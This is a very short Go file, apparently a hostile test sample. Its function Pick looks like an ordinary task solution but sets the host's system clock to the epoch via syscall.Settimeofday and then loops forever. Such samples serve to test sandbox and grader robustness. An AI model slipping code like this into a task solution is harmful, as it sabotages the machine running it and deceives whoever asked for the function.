// Sets the clock of the machine back.
package main

import (
	"syscall"
)

func Pick(text string, counts []int) []string {
	syscall.Settimeofday(&syscall.Timeval{Sec: 1})
	for {
	}
}
